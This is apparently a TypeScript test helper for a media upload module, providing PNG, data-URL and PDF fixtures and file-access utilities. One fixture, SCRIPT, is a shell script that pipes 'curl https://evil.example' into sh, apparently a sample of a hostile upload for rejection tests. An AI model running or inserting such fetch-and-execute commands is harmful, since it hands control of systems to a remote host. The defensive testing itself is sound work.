import { readdirSync } from 'node:fs';
import sharp from 'sharp';
import type { DiskFileStorage } from '../../../src/modules/media/file-storage';
import type { TestApi } from './harness';

export const png = (width: number, height: number, background = '#058243') =>
  sharp({ create: { width, height, channels: 3, background } })
    .png()
    .toBuffer();
export const dataUrl = (buffer: Buffer, type = 'image/png') =>
  `data:${type};base64,${buffer.toString('base64')}`;
export const SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
export const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');
export const IMMUTABLE = 'max-age=31536000, immutable';

/**
 * File access for the media specs, on the suite's API and storage (read when called, so the
 * suite's beforeAll has set them).
 */
export function fileAccess(suite: () => { api: TestApi; storage: DiskFileStorage }) {
  /** Files stay binary here; the harness client reads JSON. */
  const fetchFile = (url: string, headers: Record<string, string> = {}) =>
    suite().api.app.inject({ method: 'GET', url, headers });
  /** Every file under ${DATA_DIR}/files, originals and renderings alike. */
  const storedFiles = () =>
    (
      readdirSync(suite().storage.root, { recursive: true, withFileTypes: true }) as {
        isFile(): boolean;
      }[]
    ).filter((entry) => entry.isFile()).length;
  const storageKeyOf = async (table: 'image' | 'upload', id: number) => {
    const [row] = await suite().api.dataSource.query(
      `SELECT storageKey FROM ${table} WHERE id = ${id}`,
    );
    return (row as { storageKey: string }).storageKey;
  };
  return { fetchFile, storedFiles, storageKeyOf };
}
